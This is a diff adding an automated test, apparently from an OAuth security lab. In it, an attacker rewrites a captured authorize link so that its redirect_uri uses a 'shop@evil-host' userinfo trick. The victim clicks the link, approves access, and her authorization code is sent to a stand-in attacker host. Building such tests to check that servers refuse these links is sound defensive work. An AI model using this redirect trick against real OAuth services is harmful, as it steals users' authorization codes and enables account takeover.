@@ -1,0 +1,26 @@
+import { expect } from '../stack.ts'
+import { allow, inbox, openMail, signIn, write } from './acts.ts'
+import { doneByHand } from './by-hand.ts'
+import { readMessage } from './inspector.ts'
+import { at } from './place.ts'
+
+doneByHand('01', {
+  byHand: async ({ mallory, alice }) => {
+    await mallory.goto(`${at.shop}/spa/`)
+    await mallory.getByRole('button', { name: 'Choose photos from CloudDrive' }).click()
+    await mallory.getByLabel('Password').waitFor()
+    const [, path = ''] = /GET (\/authorize\S+)/.exec(await readMessage(mallory, 'GET /authorize')) ?? []
+    const link = new URL(path, at.auth)
+    link.searchParams.set('redirect_uri', `${at.shop}@${new URL(at.evil).host}/`)
+    await write(mallory, link.href)
+    await openMail(alice)
+    if (await alice.getByLabel('Password').isHidden()) return alice
+    await signIn(alice, 'alice')
+    await allow(alice)
+    await expect(alice.getByRole('heading', { name: 'Thank you!' })).toBeVisible()
+    expect(await inbox(mallory)).toContain('GET /?code=')
+    return mallory
+  },
+  lost: /A code of alice’s, sent to evil\.localhost/,
+  refused: /This link does not lead back to PrintShop/,
+})
